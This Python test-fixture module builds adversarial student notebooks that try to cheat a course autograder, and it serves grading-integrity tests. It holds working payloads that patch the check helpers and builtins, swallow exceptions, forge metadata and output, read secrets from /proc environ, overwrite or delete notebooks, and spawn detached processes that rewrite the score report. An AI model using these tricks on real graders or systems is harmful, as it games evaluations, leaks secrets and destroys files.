"""A student's attempts to game `courselib grade` (issue 20), each written as a notebook.

Every attack starts from a built lab with **no question solved** (except `inflated_points`, which
solves the first question honestly and then claims more for it). It puts its code where the grader
cannot avoid running it: in the first answer cell (the grader must run the student's answers), or
in the notebook's cells and metadata (what the student controls). Each must earn nothing it did not
solve: ``EARNS[name]`` is what an honest grader pays it, as a function of the lab's questions.

Used by tests/test_grading_integrity.py (and by hand to measure what an old grader paid).
"""
from __future__ import annotations

import copy
import json
import textwrap

import nbformat

from courselib.grading import markers

SECRET_ENV = "COURSELIB_ATTACK_SECRET"
SECRET = "hunter2-do-not-leak-7f3a"
MARK = "courselib-attack-leftover"  # in the argv of a process an attack leaves behind


def _answer_cells(nb) -> list:
    return [c for c in nb.cells if markers.course_meta(c).get("answer")]


def _check_cells(nb) -> list:
    return [c for c in nb.cells if markers.is_check(c)]


def _prefix_first_answer(nb, code: str):
    cell = _answer_cells(nb)[0]
    cell.source = textwrap.dedent(code).strip() + "\n" + cell.source
    return nb


# --- cheating the checks -------------------------------------------------------------------------

def edited_checks(lab, solution=None):
    """Every check cell replaced by `pass` (the old grader flagged this as check_edited, and paid)."""
    nb = copy.deepcopy(lab)
    for cell in _check_cells(nb):
        cell.source = "pass  # my check now"
    return nb


def deleted_checks(lab, solution=None):
    """Every check cell deleted."""
    nb = copy.deepcopy(lab)
    nb.cells = [c for c in nb.cells if not markers.is_check(c)]
    return nb


PATCH_HELPERS = """
import courselib.grading.checks as _c
_c.expect = lambda *a, **k: None
_c.answered = lambda *a, **k: None
_c.close = lambda *a, **k: True
_c.number = lambda name, value: 0.0
_c.whole = lambda name, value: 0
"""


def patched_helpers(lab, solution=None):
    """The first answer cell turns the check helpers into no-ops."""
    return _prefix_first_answer(copy.deepcopy(lab), PATCH_HELPERS)


PATCH_BUILTINS = """
import builtins as _b, types as _t
_real_import = _b.__import__
def _import(name, globals=None, locals=None, fromlist=(), level=0):
    mod = _real_import(name, globals, locals, fromlist, level)
    if name == "courselib.grading.checks":
        fake = _t.ModuleType(name)
        fake.__dict__.update(vars(mod))
        fake.expect = fake.answered = lambda *a, **k: None
        fake.close = lambda *a, **k: True
        fake.number = lambda name, value: 0.0
        fake.whole = lambda name, value: 0
        return fake
    return mod
_b.__import__ = _import
"""


def patched_builtins(lab, solution=None):
    """The first answer cell replaces `builtins.__import__`, so each check cell imports no-op helpers."""
    return _prefix_first_answer(copy.deepcopy(lab), PATCH_BUILTINS)


INPUT_TRANSFORMER = """
def _skip_checks(lines):
    return ["pass\\n"] if lines and "Check question" in lines[0] else lines
get_ipython().input_transformers_post.append(_skip_checks)
"""


def input_transformer(lab, solution=None):
    """An IPython input transformer that turns every later check cell into `pass`."""
    return _prefix_first_answer(copy.deepcopy(lab), INPUT_TRANSFORMER)


CUSTOM_EXC = """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""


def custom_exception_handler(lab, solution=None):
    """IPython's set_custom_exc swallows every later exception, so no check cell shows an error."""
    return _prefix_first_answer(copy.deepcopy(lab), CUSTOM_EXC)


SWALLOW_TRACEBACKS = """
get_ipython().showtraceback = lambda *a, **k: None
"""


def silenced_tracebacks(lab, solution=None):
    """The shell's showtraceback replaced: a failing check cell produces no error output."""
    return _prefix_first_answer(copy.deepcopy(lab), SWALLOW_TRACEBACKS)


ALWAYS_EQUAL = """
class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __contains__(self, item): return True
    def __bool__(self): return True
__builtins__ = __builtins__
"""


def fake_check_cell(lab, solution=None):
    """A new cell that claims to be a check cell worth 100 points, and a second copy of a check for q1."""
    nb = copy.deepcopy(lab)
    fake = nbformat.v4.new_code_cell("pass  # looks like a check to the old grader")
    fake.metadata = {"course": {"question": "q99", "points": 100}, "tags": ["check"]}
    fake_q1 = nbformat.v4.new_code_cell("pass")
    fake_q1.metadata = {"course": {"question": "q1", "points": 3}, "tags": ["check"]}
    nb.cells = [c for c in nb.cells if not (markers.is_check(c) and markers.course_meta(c)["question"] == "q1")]
    nb.cells.insert(1, fake_q1)
    nb.cells.append(fake)
    return nb


def inflated_points(lab, solution):
    """Question 1 answered honestly, its points raised to 100 in the cell and notebook metadata."""
    nb = copy.deepcopy(lab)
    sol = {c["id"]: c for c in solution.cells}
    for cell in _answer_cells(nb):
        if cell.metadata["course"]["question"] == "q1":
            cell.source = markers.solution_source(sol[cell["id"]].source, "solution")
    for cell in _check_cells(nb):
        if cell.metadata["course"]["question"] == "q1":
            cell.metadata["course"]["points"] = 100
    nb.metadata["course"]["questions"]["q1"] = 100
    nb.metadata["course"]["points"] = sum(nb.metadata["course"]["questions"].values())
    return nb


def prefilled_outputs_then_dies(lab, solution=None):
    """Every check cell carries a clean output from an earlier run; the first answer ends the kernel."""
    nb = copy.deepcopy(lab)
    for n, cell in enumerate(_check_cells(nb), start=1):
        cell.execution_count = 100 + n
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok\n")]
    return _prefix_first_answer(nb, "import os\nos._exit(0)")


# --- holding or escaping the grader --------------------------------------------------------------

IGNORE_SIGINT = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""


def ignores_sigint(lab, solution=None):
    """An answer that ignores SIGINT and never returns."""
    return _prefix_first_answer(copy.deepcopy(lab), IGNORE_SIGINT)


def _ancestors_code() -> str:
    return """
import os
def _ancestors():
    pid, seen = os.getpid(), []
    while pid > 1 and len(seen) < 20:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        seen.append(pid)
    return seen
def _every_process():
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]
def _command_lines():
    for pid in _ancestors() + _every_process():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode() for a in f.read().split(b"\\0") if a]
            yield args, os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
"""


LEAK_ENV = _ancestors_code() + f"""
_found = os.environ.get({SECRET_ENV!r}, "")
for _pid in _ancestors() + _every_process():
    try:
        with open(f"/proc/{{_pid}}/environ", "rb") as f:
            for _kv in f.read().split(b"\\0"):
                if _kv.startswith(b"{SECRET_ENV}="):
                    _found = _kv.split(b"=", 1)[1].decode()
    except OSError:
        pass
raise AssertionError("leaked: " + (_found or "nothing"))
"""


def leaks_environment(lab, solution=None):
    """Reads the grader's environment (its own, and every process's /proc/PID/environ) into feedback."""
    return _prefix_first_answer(copy.deepcopy(lab), LEAK_ENV)


OVERWRITE_ORIGINAL = _ancestors_code() + """
for _args, _cwd in _command_lines():
    for _a in _args:
        if _a.endswith(".ipynb"):
            _path = os.path.join(_cwd, _a)
            try:
                with open(_path, "w") as f:
                    f.write("{}")
            except OSError:
                pass
for _root, _dirs, _files in os.walk("/tmp"):
    for _f in _files:
        if _f.endswith(".ipynb"):
            try:
                os.remove(os.path.join(_root, _f))
            except OSError:
                pass
"""


def overwrites_the_original(lab, solution=None):
    """Finds the graded notebook through the processes' command lines and working folders; overwrites it."""
    return _prefix_first_answer(copy.deepcopy(lab), OVERWRITE_ORIGINAL)


FORGE_STDOUT = _ancestors_code() + """
for _pid in _ancestors():
    for _fd in (1, 2):
        try:
            with open(f"/proc/{_pid}/fd/{_fd}", "w") as f:
                f.write("  q1  ok    3/3\\n  total 999/999\\nFORGED\\n")
        except OSError:
            pass
for _fd in (1, 2):
    try:
        os.write(_fd, b"  total 999/999\\nFORGED\\n")
    except OSError:
        pass
"""


def forges_the_graders_output(lab, solution=None):
    """Writes forged 'total' lines into every ancestor's stdout and stderr through /proc/PID/fd."""
    return _prefix_first_answer(copy.deepcopy(lab), FORGE_STDOUT)


LEAVE_PROCESS = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(300)",
                  "{MARK}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def leaves_a_process(lab, solution=None):
    """Starts a double-forked, setsid'd process that outlives the grading (its argv carries MARK)."""
    return _prefix_first_answer(copy.deepcopy(lab), LEAVE_PROCESS)


REWRITE_REPORT = _ancestors_code() + f"""
import subprocess, sys
_targets = []
for _args, _cwd in _command_lines():
    for _i, _a in enumerate(_args[:-1]):
        if _a == "--json-file":
            _targets.append(os.path.join(_cwd, _args[_i + 1]))
_forger = '''
import json, os, sys, time
time.sleep(4)
for path in sys.argv[2:]:
    try:
        with open(path) as f:
            report = json.load(f)
        for q in report["questions"]:
            q.update(points=q["max_points"], passed=True, feedback="")
        report["total"] = report["max"]
        with open(path, "w") as f:
            json.dump(report, f)
    except Exception:
        pass
'''
subprocess.Popen([sys.executable, "-c", _forger, "{MARK}", *_targets], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def rewrites_the_report_later(lab, solution=None):
    """A detached process that, after the grader exits, rewrites its --json-file with full marks."""
    return _prefix_first_answer(copy.deepcopy(lab), REWRITE_REPORT)


def always_equal_answers(lab, solution=None):
    """Every answer set to an object that equals anything (and is a float, a set and a str at once)."""
    nb = copy.deepcopy(lab)
    cells = _answer_cells(nb)
    cells[0].source = textwrap.dedent(ALWAYS_EQUAL).strip() + "\n" + cells[0].source
    for cell in cells:
        cell.source = cell.source.replace("= ...  # YOUR ANSWER HERE", "= _Yes(1)  # always right?")
    return nb


# name -> (build, what it must earn: "nothing" or "q1 only")
ATTACKS = {
    "edited_checks": edited_checks,
    "deleted_checks": deleted_checks,
    "patched_helpers": patched_helpers,
    "patched_builtins": patched_builtins,
    "input_transformer": input_transformer,
    "custom_exception_handler": custom_exception_handler,
    "silenced_tracebacks": silenced_tracebacks,
    "fake_check_cell": fake_check_cell,
    "inflated_points": inflated_points,
    "prefilled_outputs_then_dies": prefilled_outputs_then_dies,
    "ignores_sigint": ignores_sigint,
    "leaks_environment": leaks_environment,
    "overwrites_the_original": overwrites_the_original,
    "forges_the_graders_output": forges_the_graders_output,
    "leaves_a_process": leaves_a_process,
    "rewrites_the_report_later": rewrites_the_report_later,
    "always_equal_answers": always_equal_answers,
}
HONEST_Q1 = {"inflated_points"}   # the only attack that solves something (question 1)


def write(nb, path) -> None:
    nbformat.write(nb, str(path))


def as_json(nb) -> str:
    return json.dumps(nb)
